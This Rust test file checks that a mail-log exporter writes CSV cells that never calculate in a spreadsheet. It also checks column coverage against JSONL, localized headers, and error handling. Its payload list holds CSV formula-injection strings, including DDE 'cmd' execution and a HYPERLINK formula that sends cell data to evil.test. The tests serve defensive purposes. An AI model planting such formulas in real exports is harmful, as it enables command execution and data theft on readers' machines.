//! What a file of rows is promised: whole or broken, the same cells for every reader, nothing that calculates.

use futures::{StreamExt, executor::block_on, stream};
use tracemail_export::{
    Error,
    csv::{Options, csv},
    jsonl::jsonl,
};
use tracemail_model::{
    access::Access,
    explain::Lang,
    ids::RowId,
    message::{Attachment, Auth, Message, Spam, TlsVersion},
    reason::{Failure, Reason},
    row::{Kind, Row},
    status::{Action, Direction, Protocol, Status},
    time::Micros,
};

/// A row in which strangers wrote `text` wherever they can.
fn message(text: &str) -> Row {
    let some = || Some(text.to_owned());
    Row::Message(Message {
        id: RowId(7),
        direction: Direction::Received,
        time: Micros(1_795_281_459_987_745),
        updated: Micros(1_795_281_460_000_000),
        domain: some(),
        sender: some(),
        recipient: some(),
        original_recipient: some(),
        header_from: some(),
        header_to: some(),
        subject: some(),
        size: Some(545),
        message_id: some(),
        queue_id: some(),
        status: Status::Accepted,
        reason: Some(Reason::Greylisted),
        text: some(),
        host: text.into(),
        client_ip: "192.0.2.1".parse().ok(),
        client_host: some(),
        helo: some(),
        user: some(),
        service: text.into(),
        port: Some(25),
        relay_host: some(),
        relay_ip: "2001:db8::1".parse().ok(),
        relay_port: Some(25),
        dsn: some(),
        smtp_code: Some(250),
        attempts: 1,
        delay: Some(0.1),
        delays: Some([0.07, 0.0, 0.0, 0.03]),
        tls_in: Some(TlsVersion::Tls13),
        tls_in_cipher: some(),
        tls_out: None,
        tls_out_cipher: some(),
        tls_out_trust: some(),
        folder: some(),
        actions: vec![text.into()],
        forwarded_to: vec![text.into(), text.into()],
        autoreply: some(),
        spam: Some(Spam { score: -1.5, required: Some(15.0), action: text.into(), symbols: vec![(text.into(), -0.5)] }),
        virus: some(),
        auth: Auth { spf: some(), dkim: some(), dmarc: some() },
        attachments: vec![Attachment { name: text.into(), sha256: None, size: None, status: None }],
    })
}

fn access(text: &str) -> Row {
    let some = || Some(text.to_owned());
    Row::Access(Access {
        id: RowId(8),
        time: Micros(1_795_281_459_987_745),
        logout_time: Some(Micros(1_795_281_460_000_000)),
        action: Action::FailedLogin,
        protocol: Protocol::Imap,
        user: text.into(),
        domain: some(),
        failure: Some(Failure::AuthFailed),
        text: some(),
        client: some(),
        server: text.into(),
        local_ip: None,
        local_port: Some(993),
        remote_ip: "192.0.2.1".parse().ok(),
        remote_port: None,
        session: some(),
        method: some(),
        tls: None,
        tls_cipher: some(),
        bytes_in: Some(1),
        bytes_out: None,
        deleted: None,
        expunged: None,
        trashed: None,
        retrieved: None,
        service: text.into(),
    })
}

fn file(rows: Vec<Row>, options: Options) -> Vec<u8> {
    let pieces = csv(stream::iter(rows.into_iter().map(Ok::<_, Error<()>>)), options);
    block_on(pieces.map(|piece| piece.expect("a piece")).collect::<Vec<_>>()).concat()
}

/// The file read back by somebody else's rules: lines of cells.
fn read(bytes: &[u8], separator: u8) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().delimiter(separator).has_headers(false).from_reader(bytes);
    reader.records().map(|line| line.expect("a line").iter().map(Into::into).collect()).collect()
}

fn payloads() -> Vec<String> {
    let signs = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}", "\u{fe66}", "\u{2212}"];
    let before = ["", " ", "\u{a0}", "\u{feff}", "\u{200b}", "\u{202e} "];
    let mut all: Vec<String> = before.iter().flat_map(|b| signs.iter().map(move |s| format!("{b}{s}cmd|' /C calc'!A0"))).collect();
    all.extend(
        [
            "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
            "=1+1\",\"x",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1",
            "-1",
            "=\"a\nb\"",
            "\r\n=1",
        ]
        .map(String::from),
    );
    assert!(all.len() >= 80);
    all
}

#[test]
fn no_cell_of_any_column_calculates() {
    for payload in payloads() {
        for (kind, row) in [(Kind::Received, message(&payload)), (Kind::Access, access(&payload))] {
            let table = read(&file(vec![row.clone()], Options::new(kind)), b',');
            let mut quoted = 0;
            for (name, cell) in table[0].iter().zip(&table[1]) {
                let first = cell.trim_start_matches([' ', '\u{a0}', '\u{feff}', '\u{200b}', '\u{202e}']).chars().next();
                let calculates = first.is_some_and(|c| c.is_control() || "=+-@＝＋－＠﹦−".contains(c));
                assert!(!calculates || name == "spam_score", "{name}: {cell:?}");
                quoted += usize::from(cell.starts_with('\''));
            }
            assert!(quoted >= 9, "{payload:?} came through in {quoted} columns only: is it still tested?");
            let raw = read(&file(vec![row], Options { safe: false, ..Options::new(kind) }), b',');
            assert!(raw[1].contains(&payload), "raw is exact");
        }
    }
}

#[test]
fn every_fact_has_its_cell_under_the_name_of_the_api() {
    for (kind, row) in [(Kind::Sent, message("x")), (Kind::Access, access("x"))] {
        let table = read(&file(vec![row.clone(), row.clone()], Options::new(kind)), b',');
        assert_eq!(table.len(), 3);
        assert!(table.iter().all(|line| line.len() == table[0].len()));
        let mut lines = Vec::new();
        for piece in block_on(jsonl(stream::iter([Ok::<_, ()>(row)]), Lang::En, 0).collect::<Vec<_>>()) {
            lines.extend(piece.expect("a piece"));
        }
        assert!(lines.ends_with(b"}\n"));
        let json: serde_json::Value = serde_json::from_slice(&lines).expect("an object");
        for name in json.as_object().expect("an object").keys() {
            let found =
                table[0].iter().any(|head| head == name || head.starts_with(&format!("{name}_")) || name == "auth" && head == "spf");
            assert!(found, "{name} has no column");
        }
    }
}

#[test]
fn heads_and_times_for_people() {
    let options = Options { lang: Lang::It, words: Some(60), bom: true, separator: b';', ..Options::new(Kind::Received) };
    let bytes = file(vec![message("x")], options);
    assert!(bytes.starts_with("\u{feff}Riga;Direzione;Ora (UTC+01:00);".as_bytes()));
    assert_eq!(bytes.windows(2).filter(|two| two == b"\r\n").count(), 2);
    let table = read(&bytes, b';');
    assert_eq!(table[1][2], "2026-11-21 18:17:39");
    assert_eq!(read(&file(vec![message("x")], Options::new(Kind::Received)), b',')[1][2], "2026-11-21T17:17:39.987745Z");
}

#[test]
fn an_error_breaks_the_file_off() {
    let rows = || stream::iter([Ok(access("a")), Err("the database went away"), Ok(access("b"))]);
    let pieces = block_on(csv(rows(), Options::new(Kind::Access)).collect::<Vec<_>>());
    assert!(matches!(pieces.last(), Some(Err(Error::Rows("the database went away")))));
    assert_eq!(pieces.iter().filter(|piece| piece.is_err()).count(), 1);
    let pieces = block_on(jsonl(rows(), Lang::En, 0).collect::<Vec<_>>());
    assert!(matches!(pieces.last(), Some(Err(Error::Rows(_)))));
}

#[test]
fn the_first_piece_does_not_wait_for_rows() {
    let mut pieces = Box::pin(csv(stream::pending::<Result<Row, ()>>(), Options::new(Kind::Access)));
    let first = block_on(pieces.next()).expect("a piece").expect("the heads");
    assert!(first.starts_with(b"id,time,logout_time,"));
    assert!(read(&file(Vec::new(), Options::new(Kind::Sent)), b',').len() == 1, "no rows: the heads alone");
}
